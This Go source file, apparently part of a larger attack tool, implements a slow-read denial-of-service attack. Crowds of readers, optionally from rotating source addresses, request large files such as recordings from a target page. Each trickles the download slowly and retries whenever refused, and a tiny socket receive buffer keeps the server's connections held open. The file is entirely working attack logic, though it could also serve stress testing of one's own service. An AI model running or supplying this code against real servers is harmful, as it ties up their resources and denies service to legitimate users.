//go:build linux

package main

import (
	"context"
	"fmt"
	"io"
	"strings"
	"syscall"
	"time"
)

// readers ask the page for something large and take it slowly.
type readers struct {
	Count int
	Paths []string      // asked for by turns; RECORDING stands for a recording's name
	From  []string      // addresses, by turns; empty for any
	Rate  int           // bytes that each reads in a second
	Every time.Duration // between two of them
}

// sipEvery is how often a slow reader reads.
const sipEvery = 100 * time.Millisecond

// recordingMark stands for the name of a recording in a path.
const recordingMark = "RECORDING"

// read has readers ask, each again when it is refused or has been cut off.
func (a *attackers) read(ctx context.Context, r readers) {
	crowd(ctx, r.Count, r.Every, func(i int) {
		path := strings.ReplaceAll(r.Paths[i%len(r.Paths)], recordingMark, a.recording)
		from := ""
		if len(r.From) > 0 {
			from = r.From[i%len(r.From)]
		}
		a.repeat(ctx, func(ctx context.Context) error { return a.sip(ctx, from, path, r.Rate) })
	})
}

// sip downloads a path, little by little, to its end or until it is cut off.
func (a *attackers) sip(ctx context.Context, from, path string, rate int) error {
	conn, hangUp, err := a.dial(ctx, from, a.Page)
	if err != nil {
		return err
	}
	defer hangUp()
	request := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, a.Page)
	if _, err := io.WriteString(conn, request); err != nil {
		return err
	}
	a.sent.Add(int64(len(request)))
	const status = len("HTTP/1.1 200")
	head := make([]byte, max(status, rate/int(time.Second/sipEvery)))
	if _, err := io.ReadFull(conn, head[:status]); err != nil {
		return err
	}
	if string(head[status-3:status]) != "200" {
		return errRefused
	}
	for {
		pause(ctx, sipEvery)
		if _, err := conn.Read(head); err != nil {
			return err
		}
	}
}

// smallBuffer has the system keep little of what a connection has not read: else it
// would take whole answers in for a slow reader.
func smallBuffer(_, _ string, c syscall.RawConn) error {
	var err error
	failed := c.Control(func(fd uintptr) {
		err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4<<10)
	})
	if failed != nil {
		return failed
	}
	return err
}
